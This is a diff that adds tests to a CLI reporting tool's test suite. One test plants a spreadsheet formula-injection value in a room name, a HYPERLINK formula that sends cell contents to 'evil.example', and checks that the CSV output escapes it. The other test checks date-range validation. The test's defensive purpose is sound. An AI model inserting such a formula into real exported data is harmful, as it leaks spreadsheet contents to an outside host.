@@ -68,6 +68,31 @@ describe("meetmeter report", () => {
     }
   });
 
+  it("guards every CSV it prints against spreadsheet formulas, as the API's CSV does", async () => {
+    const room = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
+    const hostile = join(folder, "hostile.db");
+    const file = join(folder, "hostile.jsonl");
+    const lines = EVENTS.map((e) => ({ ...e, id: `hostile-${e.id}`, data: { ...e.data, roomName: room, roomSessionId: "rs-hostile" } }));
+    writeFileSync(file, lines.map((e) => JSON.stringify(e)).join("\n") + "\n");
+    const imported = await runCli(["import", file, "--database", `sqlite:${hostile}`]);
+    expect(imported.code, imported.stderr).toBe(0);
+    for (const args of [["report", "sessions"], ["report", "session", "rs-hostile"]]) {
+      const csv = await runCli([...args, "--format", "csv", "--database", `sqlite:${hostile}`]);
+      expect(csv.code, csv.stderr).toBe(0);
+      // The room's cell, quoted for its quotes and comma, begins with the apostrophe; no cell begins with the formula.
+      expect(csv.stdout, args.join(" ")).toContain(`"'${room.replaceAll('"', '""')}"`);
+      expect(csv.stdout, args.join(" ")).not.toMatch(/(^|,)"?=/m);
+    }
+  });
+
+  it("refuses a --from at or after --to, as the API does", async () => {
+    for (const command of ["sessions", "usage"]) {
+      const refused = await runCli(["report", command, "--from", "2026-03-03", "--to", "2026-03-02", ...database]);
+      expect(refused.code, command).toBe(2);
+      expect(refused.stderr, command).toContain("--from must be before --to");
+    }
+  });
+
   it("fails on a SQLite file that is not there, rather than reporting an empty database it made", async () => {
     const typo = join(folder, "typo", "meetmeter.db");
     for (const args of [["report", "sessions"], ["report", "usage"], ["export"], ["rebuild"]]) {
